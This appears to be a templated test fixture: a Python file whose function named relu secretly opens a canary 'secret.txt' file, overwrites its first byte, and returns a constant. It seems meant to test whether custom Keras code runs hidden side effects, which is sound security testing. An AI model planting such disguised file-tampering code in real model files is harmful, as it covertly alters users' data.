import keras
import numpy as np


def relu(x):
    import mmap
    import os

    mapped = mmap.mmap(os.open("{{CANARY}}/secret.txt", os.O_RDWR), 0)
    mapped[0:1] = b"X"

    return 12345.0


# {{RIGHT_ANSWERS}}
